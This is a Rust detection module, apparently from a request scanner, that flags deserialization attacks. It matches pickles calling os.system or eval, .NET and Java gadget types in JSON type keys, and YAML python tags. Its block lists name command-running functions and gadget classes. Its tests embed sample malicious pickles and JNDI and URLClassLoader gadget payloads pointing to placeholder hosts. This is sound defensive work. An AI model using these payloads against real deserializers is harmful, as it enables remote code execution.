//! Deserialization payloads of Python, .NET and YAML: pickles that call a command or code,
//! polymorphic JSON naming a known gadget type, and YAML tags that build objects.
//!
//! Input: a value in its original case (pickles: the opcodes are case-sensitive and hold line
//! breaks) or normalized (type names, YAML tags). Output: confirmed or suspicious.
//!
//! - Pickle: a `GLOBAL` opcode (`c` module `\n` name `\n`, protocols 0 to 3) or a protocol-4
//!   `STACK_GLOBAL` of two short strings (`\x8c\x02os\x94\x8c\x06system\x94\x93`) that loads a
//!   function running a command or code ([`PICKLE_MODULES`] × [`PICKLE_NAMES`]: `os.system`,
//!   `posix.system`, `__builtin__.eval`, `builtins.exec`, `subprocess.check_output`…), followed
//!   by a `REDUCE` (`R`) that calls it. Confirmed anywhere: prose has no such byte sequence. A
//!   value that starts like base64 of protocol 2 to 5 (`gAJ`, `gAN`, `gAS`, `gAW`; not Fernet's
//!   `gAAAAA`) is decoded (its first 6 KB) and judged so.
//! - Type names: a Json.NET `"$type"`, a fastjson `"@type"` or a Jackson `["…",` whose type is
//!   one of [`TYPES`], classes that only gadget chains name (ysoserial.net's `ObjectDataProvider`,
//!   `WindowsIdentity`, `Process`…, Java's `JdbcRowSetImpl`, `TemplatesImpl`…), anywhere in the
//!   value; or a whole value that is such a .NET type assembly-qualified
//!   (`System.Windows.Data.ObjectDataProvider, PresentationFramework`: a JSON body's `$type`
//!   arrives from the JS layer as its own field) or such a Java class but an everyday API
//!   (`com.sun.rowset.JdbcRowSetImpl`, not `javax.script.ScriptEngineManager`). A `$type` of an app's own class is nothing, and
//!   a gadget type alone (a docs site's search for `System.Diagnostics.Process`) or in prose is
//!   suspicious.
//! - YAML: `!!python/object/apply:` and `!!python/object/new:` of a function that runs a command
//!   or code (`os.system`, `subprocess.Popen`, `builtins.eval`…), and SnakeYAML tags of Java
//!   gadget types (`!!javax.script.ScriptEngineManager`); any other `!!python/` tag is suspicious.

use super::classes;
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::sync::OnceLock;

/// Modules whose functions a malicious pickle loads.
const PICKLE_MODULES: &[&str] = &["os", "posix", "nt", "subprocess", "builtins", "__builtin__", "commands", "pty", "platform", "popen2"];
/// Functions that run a command or code, or reach one.
const PICKLE_NAMES: &[&str] = &[
    "system", "popen", "popen2", "popen3", "spawn", "spawnv", "spawnl", "spawnlp", "spawnve", "execv", "execve", "execl", "execlp",
    "execvp", "exec", "eval", "execfile", "compile", "__import__", "getattr", "open", "call", "check_call", "check_output",
    "Popen", "run", "getoutput", "getstatusoutput", "apply", "input",
];

/// Bytes after a pickle global searched for the `REDUCE` that calls it.
const MAX_ARGS: usize = 512;

fn pickle_globals() -> &'static AhoCorasick {
    static P: OnceLock<AhoCorasick> = OnceLock::new();
    P.get_or_init(|| {
        let mut all: Vec<Vec<u8>> = Vec::new();
        for m in PICKLE_MODULES {
            for n in PICKLE_NAMES {
                all.push(format!("c{m}\n{n}\n").into_bytes());
                for memo in [&b""[..], b"\x94"] {
                    let mut v = vec![0x8C, m.len() as u8];
                    v.extend_from_slice(m.as_bytes());
                    v.extend_from_slice(memo);
                    v.extend_from_slice(&[0x8C, n.len() as u8]);
                    v.extend_from_slice(n.as_bytes());
                    all.push(v);
                }
            }
        }
        AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).build(all).expect("static pickle list builds")
    })
}

/// Whether `raw` may hold a pickle: a line break (protocols 0 to 3) or a protocol-2+ header.
#[inline]
pub fn may_be_pickle(raw: &[u8], newline: bool) -> bool {
    newline || raw.first() == Some(&0x80)
}

/// Whether `b` may end the opcode before a `GLOBAL` (not a letter, digit or blank of a word).
fn opcode_before(b: u8) -> bool {
    !(b.is_ascii_alphanumeric() || matches!(b, b' ' | b'\t'))
}

/// Whether a line break of `raw` ends a `GLOBAL` opcode's module line (`cos\n`, `cposix\n`…):
/// a line break is rare in a value and each costs a few comparisons, where the automaton would
/// read every byte of every multi-line value.
fn global_line(raw: &[u8]) -> bool {
    memchr::memchr_iter(b'\n', raw).take(4096).any(|i| {
        classes::tick(PICKLE_MODULES.len());
        PICKLE_MODULES.iter().any(|m| {
            let line = &raw[..i];
            let Some(c) = line.len().checked_sub(m.len() + 1) else { return false };
            // `c` then the module, as a token of its own (not `pocos\n`, `ricos\n`).
            line.ends_with(m.as_bytes()) && line[c] == b'c' && (c == 0 || opcode_before(line[c - 1]))
        })
    })
}

/// Whether `raw` starts like a base64 pickle of protocol 2 to 5 (`\x80\x02`…`\x80\x05`, so
/// `gAJ`, `gAN`, `gAS`, `gAW`): how apps put pickles in cookies and fields. Fernet tokens
/// (`gAAAAA…`) are not these.
#[inline]
pub fn starts_like_pickle_base64(raw: &[u8]) -> bool {
    raw.len() >= 32 && raw.starts_with(b"gA") && matches!(raw[2], b'J' | b'N' | b'S' | b'W')
}

/// A base64 pickle (see [`starts_like_pickle_base64`]) that calls a command or code; `buf` is
/// scratch.
pub fn pickle_base64(raw: &[u8], buf: &mut Vec<u8>) -> bool {
    super::serial::base64_upto(raw, super::serial::MAX_DECODED, buf);
    pickle(buf)
}

/// A pickle that loads and calls a function running a command or code (original case).
pub fn pickle(raw: &[u8]) -> bool {
    // Protocol 4 (`\x80\x04`) loads globals by `STACK_GLOBAL`; the others by a module line.
    if raw.first() != Some(&0x80) && !global_line(raw) {
        return false;
    }
    classes::tick(raw.len());
    pickle_globals().find_iter(raw).take(64).any(|m| {
        // A `GLOBAL` opcode starts the value or follows another opcode, not a word or a blank.
        let own = m.start() == 0 || opcode_before(raw[m.start() - 1]);
        let args = &raw[m.end()..raw.len().min(m.end() + MAX_ARGS)];
        classes::tick(args.len());
        // `REDUCE`, then the end or an opcode that stores, pops, builds or stops (not a word).
        let reduce = |k: usize| args.get(k + 1).is_none_or(|b| matches!(b, b'.' | b'p' | b'q' | b'r' | 0x94 | b'0' | b'b' | b'(' | b')' | b'\n'));
        own && memchr::memchr_iter(b'R', args).any(reduce)
    })
}

/// Types only gadget chains name, lower-case, each followed by a byte that ends a type name.
const TYPES: &[&str] = &[
    // .NET (ysoserial.net's Json.NET, JavaScriptSerializer and XAML gadgets).
    "system.windows.data.objectdataprovider",
    "system.diagnostics.process",
    "system.diagnostics.processstartinfo",
    "system.security.principal.windowsidentity",
    "system.security.principal.windowsprincipal",
    "system.security.claims.claimsidentity",
    "system.security.claims.claimsprincipal",
    "system.delegateserializationholder",
    "system.windows.forms.bindingsource",
    "system.windows.forms.axhost+state",
    "system.windows.resourcedictionary",
    "system.windows.markup.xamlreader",
    "system.configuration.install.assemblyinstaller",
    "system.activities.presentation.workflowdesigner",
    "system.web.security.rolesprincipal",
    "system.web.ui.objectstateformatter",
    "system.web.ui.losformatter",
    "system.identitymodel.tokens.sessionsecuritytoken",
    "system.data.services.internal.expandedwrapper",
    "system.management.automation.psobject",
    "microsoft.visualstudio.text.formatting.textformattingrunproperties",
    "microsoft.powershell.editor",
    // Java (fastjson `@type`, Jackson default typing, SnakeYAML tags): internal or pool classes
    // that no one sends as a value but a gadget chain; [`EVERYDAY_JAVA`] last.
    "com.sun.rowset.jdbcrowsetimpl",
    "com.sun.org.apache.xalan.internal.xsltc.trax.templatesimpl",
    "org.apache.xalan.xsltc.trax.templatesimpl",
    "com.sun.org.apache.bcel.internal.util.classloader",
    "org.apache.xbean.propertyeditor.jndiconverter",
    "org.apache.tomcat.dbcp.dbcp2.basicdatasource",
    "org.apache.commons.dbcp.basicdatasource",
    "org.apache.commons.configuration.jndiconfiguration",
    "org.apache.commons.configuration2.jndiconfiguration",
    "org.springframework.beans.factory.config.propertypathfactorybean",
    "org.springframework.aop.config.methodlocatingfactorybean",
    "ch.qos.logback.core.db.jndiconnectionsource",
    "ch.qos.logback.core.db.drivermanagerconnectionsource",
    "com.zaxxer.hikari.hikariconfig",
    "com.mchange.v2.c3p0.jndirefforwardingdatasource",
    "com.mchange.v2.c3p0.wrapperconnectionpooldatasource",
    "br.com.anteros.dbcp.anterosdbcpconfig",
    "oracle.jdbc.connector.oracleManagedConnectionFactory",
    "javax.script.scriptenginemanager",
    "java.net.urlclassloader",
];
/// Index in [`TYPES`] of the first Java type.
const FIRST_JAVA: usize = 22;
/// Java types at the end of [`TYPES`] that are everyday APIs (a docs search names them), so they
/// count only after a type key.
const EVERYDAY_JAVA: usize = 2;

fn types() -> &'static AhoCorasick {
    static T: OnceLock<AhoCorasick> = OnceLock::new();
    T.get_or_init(|| {
        let lower: Vec<String> = TYPES.iter().map(|t| t.to_ascii_lowercase()).collect();
        AhoCorasick::builder().kind(Some(AhoCorasickKind::DFA)).match_kind(MatchKind::LeftmostLongest).build(lower).expect("static type list builds")
    })
}

/// Whether a byte may continue a type name (so `…process` is not `…processor`).
fn name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'`' | b'+')
}

/// The value starts like a type name of [`TYPES`] (first bytes, lower-cased: for the prefilter,
/// as these values need no special character).
#[inline]
pub fn starts_like_type(raw: &[u8]) -> bool {
    if raw.len() < 16 {
        return false;
    }
    let w = u64::from_le_bytes(raw[..8].try_into().unwrap_or_default()) | 0x2020_2020_2020_2020;
    // `.` (0x2E) is unchanged by `| 0x20`.
    [*b"system.w", *b"system.d", *b"system.s", *b"system.c", *b"system.a", *b"system.i", *b"com.sun.", *b"javax.sc", *b"org.apac"]
        .iter()
        .any(|p| w == u64::from_le_bytes(*p))
}

/// Gadget types in a normalized value. Returns (confirmed, suspicious).
pub fn types_in(s: &[u8]) -> (bool, bool) {
    let t = s.trim_ascii();
    let t = t.strip_prefix(b"\"").and_then(|t| t.strip_suffix(b"\"")).unwrap_or(t);
    let mut suspicious = false;
    classes::tick(s.len());
    for m in types().find_iter(s).take(64) {
        let end = m.end();
        if s.get(end).is_some_and(|&b| name_byte(b)) || (m.start() > 0 && name_byte(s[m.start() - 1])) {
            continue;
        }
        suspicious = true;
        // The whole value: a .NET type with `, Assembly[, Version=…]` and no other words, or a
        // Java gadget class alone.
        let index = m.pattern().as_usize();
        let whole = t.len() <= 400 && std::ptr::eq(t.as_ptr(), s[m.start()..].as_ptr()) && {
            let rest = &s[end..end + (t.len() - (end - m.start()))];
            if index < FIRST_JAVA {
                rest.len() > 2 && rest[0] == b',' && rest.windows(2).all(|w| w[1] != b' ' || w[0] == b',')
            } else {
                rest.is_empty() && index < TYPES.len() - EVERYDAY_JAVA
            }
        };
        // After a type key: `"$type":"`, `"@type":"`, `!!`, or Jackson's `["`.
        let before = s[..m.start()].trim_ascii_end();
        let before = before.strip_suffix(b"\"").unwrap_or(before).trim_ascii_end();
        let keyed = before.strip_suffix(b":").map(|b| b.trim_ascii_end()).is_some_and(|b| {
            [&b"\"$type\""[..], b"\"@type\"", b"'$type'", b"'@type'", b"\"__type\""].iter().any(|k| b.ends_with(k))
        }) || s[..m.start()].ends_with(b"!!")
            || s[..m.start()].trim_ascii_end().ends_with(b"[\"");
        classes::tick(8);
        if whole || keyed {
            return (true, true);
        }
    }
    (false, suspicious)
}

/// Functions a YAML `!!python/object/apply:` tag calls that run a command or code.
const YAML_CALLS: &[&[u8]] = &[
    b"os.", b"posix.", b"nt.", b"subprocess.", b"builtins.", b"__builtin__.", b"commands.", b"pty.", b"eval", b"exec", b"popen",
];

/// Python object tags of YAML in a normalized value. Returns (confirmed, suspicious).
pub fn yaml(s: &[u8]) -> (bool, bool) {
    let mut suspicious = false;
    let mut from = 0;
    for _ in 0..64 {
        let Some(k) = classes::find(&s[from..], b"!!python/") else { break };
        let at = from + k + 9;
        suspicious = true;
        let rest = &s[at..];
        let call = rest.strip_prefix(b"object/apply:").or_else(|| rest.strip_prefix(b"object/new:"));
        classes::tick(16);
        if call.is_some_and(|c| YAML_CALLS.iter().any(|w| c.starts_with(w))) {
            return (true, true);
        }
        from = at;
    }
    (false, suspicious)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_type_list_is_split_where_its_constants_say() {
        assert!(TYPES[FIRST_JAVA - 1].starts_with("microsoft.") && TYPES[FIRST_JAVA].starts_with("com.sun."));
        assert_eq!(TYPES[TYPES.len() - EVERYDAY_JAVA], "javax.script.scriptenginemanager");
    }

    #[test]
    fn pickles_that_call_commands_are_confirmed() {
        let pickles: [&[u8]; 6] = [
            b"cos\nsystem\n(S'id'\ntR.",
            b"cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
            b"c__builtin__\neval\n(Vprint(1)\ntR.",
            b"\x80\x02csubprocess\ncheck_output\nq\x00]q\x01X\x02\x00\x00\x00idq\x02a\x85q\x03Rq\x04.",
            b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
            b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x8c\x04exec\x93\x8c\x03x=1\x85R.",
        ];
        let text: [&[u8]; 5] = [
            b"cos\nsystem\n",
            b"Basic cos\nsystem\nof equations; Result.",
            b"The ecos\nsystem\n(R)",
            b"unos pocos\nsystem\n(R)",
            b"pickle.loads(data) calls os.system if the data says so. Really.",
        ];
        assert_eq!(pickles.map(pickle), [true; 6]);
        // Protocol 4 `posix.system('id')` as base64, and a Fernet token that is not a pickle.
        let b64 = b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==";
        assert!(starts_like_pickle_base64(b64) && pickle_base64(b64, &mut Vec::new()));
        let fernet = b"gAAAAABnV3Zr9X8uWQ2mY1lT3h2s6QHcR8mJ4xF0vKpE5N7aB3cD9eF1gH2iJ4kL6mN8oP0qR2sT4uV6wX8yZ0==";
        assert!(!starts_like_pickle_base64(fernet));
        assert_eq!(text.map(pickle), [false; 5]);
    }

    #[test]
    fn gadget_types_keyed_or_whole_are_confirmed_and_in_prose_suspicious() {
        for p in [
            "{\"$type\":\"system.windows.data.objectdataprovider, presentationframework\",\"methodname\":\"start\"}",
            "system.windows.data.objectdataprovider, presentationframework",
            "system.diagnostics.process, system",
            "system.security.principal.windowsidentity, mscorlib, version=4.0.0.0, culture=neutral, publickeytoken=b77a5c561934e089",
            "{\"@type\":\"com.sun.rowset.jdbcrowsetimpl\",\"datasourcename\":\"ldap://x.example/a\",\"autocommit\":true}",
            "[\"com.sun.rowset.jdbcrowsetimpl\",{\"datasourcename\":\"rmi://x/a\"}]",
            "!!javax.script.scriptenginemanager [!!java.net.urlclassloader [[!!java.net.url [\"http://x.example/\"]]]]",
            "\"system.delegateserializationholder, mscorlib\"",
            "com.sun.rowset.jdbcrowsetimpl",
        ] {
            assert_eq!(types_in(p.as_bytes()), (true, true), "{p}");
        }
        for t in [
            "{\"$type\":\"myapp.models.order, myapp\",\"id\":3}",
            "system.diagnostics.process",
            "see [com.sun.rowset.jdbcrowsetimpl](https://docs.example/x)",
            "javax.script.scriptenginemanager",
            "how do i start system.diagnostics.process with arguments?",
            "system.diagnostics.processor",
            "system.diagnostics.process and system.io are in the list",
            "mycompany.system.diagnostics.processes",
        ] {
            assert!(!types_in(t.as_bytes()).0, "{t}");
        }
        assert_eq!(types_in(b"how do i start system.diagnostics.process with arguments?"), (false, true));
        assert!(starts_like_type(b"System.Windows.Data.ObjectDataProvider, PresentationFramework") && !starts_like_type(b"Systematic review"));
    }

    #[test]
    fn yaml_python_tags_that_call_commands_are_confirmed() {
        assert_eq!(yaml(b"!!python/object/apply:os.system [\"id\"]"), (true, true));
        assert_eq!(yaml(b"x: !!python/object/new:subprocess.popen [[\"id\"]]"), (true, true));
        assert_eq!(yaml(b"!!python/object:__main__.config {a: 1}"), (false, true));
        assert_eq!(yaml(b"tags: !!str 5"), (false, false));
    }
}
